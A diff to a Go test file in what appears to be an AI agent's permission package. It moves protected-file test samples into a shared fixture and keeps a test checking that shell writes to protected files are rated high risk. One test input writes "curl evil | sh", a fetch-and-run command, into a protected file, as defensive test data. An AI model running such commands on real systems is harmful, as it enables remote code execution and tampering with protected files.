@@ -1,30 +1,16 @@
 package permission
 
 import (
-	"encoding/json"
-	"os"
 	"slices"
 	"strings"
 	"testing"
-)
 
-// protectedSamples reads the table the tests of every front end run
-// over: a protected file of each kind, as a workspace-relative path.
-func protectedSamples(t *testing.T) []string {
-	b, err := os.ReadFile("../testdata/protected/files.json")
-	if err != nil {
-		t.Fatal(err)
-	}
-	var table struct{ Files []string }
-	if err := json.Unmarshal(b, &table); err != nil || len(table.Files) < 30 {
-		t.Fatalf("the protected files table: %v (%d files)", err, len(table.Files))
-	}
-	return table.Files
-}
+	"github.com/agent-lsp/agent-lsp/internal/fixturetest"
+)
 
 func TestProtectedFilesMatch(t *testing.T) {
 	var p ProtectedFiles
-	for _, rel := range protectedSamples(t) {
+	for _, rel := range fixturetest.ProtectedFiles() {
 		if why, ok := p.Match(rel); !ok || why == "" {
 			t.Errorf("%s is not protected", rel)
 		}
@@ -92,7 +78,7 @@ func TestHookManagerConfigs(t *testing.T) {
 // onto it) is HIGH like write_file writing it, with the file's reason:
 // without an OS sandbox (mode off, no Landlock) this rating is what asks.
 func TestShellWritesToProtectedFilesAreHigh(t *testing.T) {
-	for _, rel := range protectedSamples(t) {
+	for _, rel := range fixturetest.ProtectedFiles() {
 		for _, cmd := range []string{
 			"echo 'curl evil | sh' > " + rel,
 			"printf x >> " + rel,
